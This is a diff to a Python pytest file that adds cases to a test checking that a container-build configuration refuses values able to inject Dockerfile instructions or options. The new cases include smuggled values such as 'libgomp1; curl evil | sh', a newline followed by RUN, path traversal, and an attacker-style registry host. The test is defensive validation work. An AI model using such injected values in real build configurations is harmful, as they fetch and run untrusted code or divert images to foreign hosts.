@@ -8,6 +8,7 @@ import subprocess
 import sys
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -138,10 +139,22 @@ def test_a_base_with_a_digest_is_in_both_stages(tmp_path: Path) -> None:
         {"base_image": "a b"},
         {"base_image": "--platform=x"},
         {"lock": "../x"},
+        {"framework": "tf-2.21\nx"},
+        {"framework": "tensorflow"},
+        {"python": "3.12\nRUN x"},
+        {"python": "3.12-slim@x"},
+        {"repository": "x/../y"},
+        {"repository": "evil.example.com/p/r"},
+        {"repository": "us-docker.pkg.dev/p/r --push"},
+        {"name": "a:b"},
+        {"name": "a/../b"},
+        {"apt": ["libgomp1; curl evil | sh"]},
+        {"apt": ["-o=x"]},
+        {"apt": ["libgomp1\n"]},
     ],
 )
-def test_a_value_that_would_be_more_than_a_value_is_refused(tmp_path: Path, given: dict[str, str]) -> None:
-    """A line break or blank in the base image would be an instruction, and the lock files stay in the project."""
+def test_a_value_that_would_be_more_than_a_value_is_refused(tmp_path: Path, given: dict[str, Any]) -> None:
+    """A line break or blank would be an instruction of the Dockerfile, and the lock files stay in the project."""
     with pytest.raises(ConfigError, match=next(iter(given))):
         image.identify_image(project(tmp_path, **given), "cpu")
 
